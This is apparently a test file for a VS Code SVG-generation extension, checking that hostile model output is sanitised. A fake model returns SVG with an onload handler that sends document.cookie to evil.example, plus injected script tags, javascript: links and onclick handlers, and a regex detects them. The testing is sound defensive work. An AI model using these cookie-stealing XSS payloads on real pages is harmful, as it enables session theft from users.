// Model output is untrusted, in the real extension host: a scripted
// OpenAI-compatible endpoint plays a hostile (or prompt-injected) model.
// Generate lands no active content and says what it removed; Apply Fix on the
// user's own file removes only what the fix adds.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { startFaultServer, type FaultServer } from '../loop/faultServer';
import { configure, resetSettings, testApi } from './modelSetup';
import { closeAllEditors, openSvg, waitFor } from './util';
import type { SvgCopilotTestApi } from '../seams/extension';

const HOSTILE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch(\'https://evil.example/?c=\'+document.cookie)"><script>alert(document.domain)</script><a href="javascript:alert(1)"><circle cx="100" cy="100" r="80" fill="#36c"/></a></svg>';
const MINE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">\n  <use href="icons.svg#a"/>\n  <circle cx="12" cy="12" r="4"/>\n</svg>\n';
const ACTIVE = /<script|onload|onclick|javascript:|evil\.example/;

describe('model output is untrusted', function () {
  this.timeout(120_000);
  let server: FaultServer;
  let api: SvgCopilotTestApi;

  before(async () => {
    api = await testApi();
    server = await startFaultServer((r) => {
      if (r.kind === 'generate') return { text: HOSTILE };
      if (r.kind === 'refine') return { text: MINE.replace('r="4"/>', 'r="6" onclick="steal()"/>\n  <script>steal()</script>') };
      if (r.kind === 'probe') return { text: '{"ok": true}' };
      return { text: JSON.stringify({ score: 5, critique: 'too small', suggestions: '1. make the dot larger' }) };
    });
    await vscode.commands.executeCommand('svgCopilot.server.stop');
    await configure({ endpoint: server.url, 'loop.rounds': 1, 'loop.candidates': 1 });
  });
  after(async () => {
    await resetSettings();
    await server?.close();
    api?.interaction.clear();
    await closeAllEditors();
  });

  it('Generate into an HTML page lands the drawing without active content and says what it removed', async () => {
    api.interaction.clear();
    const doc = await vscode.workspace.openTextDocument({ language: 'html', content: '<body>\n\n</body>\n' });
    const editor = await vscode.window.showTextDocument(doc);
    editor.selection = new vscode.Selection(1, 0, 1, 0);
    assert.equal(await vscode.commands.executeCommand<boolean>('svgCopilot.generate', 'a blue ball'), true, JSON.stringify(api.interaction.messages()));
    assert.match(doc.getText(), /<circle cx="100" cy="100" r="80" fill="#36c"\/>/);
    assert.doesNotMatch(doc.getText(), ACTIVE, doc.getText());
    const notice = await api.interaction.waitForMessage('removed active content', 5000);
    assert.equal(notice.severity, 'warning');
    assert.match(notice.text, /onload on <svg>, <script> and href="javascript:alert\(1\)" on <a> from the model's answer/);
    assert.match(notice.text, /svgCopilot\.allowActiveContent/);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });

  it('Apply Fix keeps the file\'s own outside reference and removes only the script and handler the fix adds', async () => {
    api.interaction.clear();
    const editor = await openSvg(MINE);
    const doc = editor.document;
    await vscode.commands.executeCommand('svgCopilot.critique', doc.uri, 'a dot');
    api.interaction.answerMessage('proposes a fix', 'Accept');
    const outcome = await vscode.commands.executeCommand<string>('svgCopilot.applyFix', doc.uri);
    assert.equal(outcome, 'accepted', JSON.stringify(api.interaction.messages()));
    assert.ok(doc.getText().includes('<circle cx="12" cy="12" r="6"/>'), doc.getText());
    assert.ok(doc.getText().includes('<use href="icons.svg#a"/>'), 'the user\'s own reference stays');
    assert.doesNotMatch(doc.getText(), ACTIVE);
    const proposal = api.interaction.messages().find((m) => m.text.includes('proposes a fix'));
    assert.match(proposal?.text ?? '', /removed active content: onclick on <circle> and <script>/);
    await waitFor(() => !vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.input instanceof vscode.TabInputTextDiff), 'the diff to close');
    await vscode.window.showTextDocument(doc);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });
});
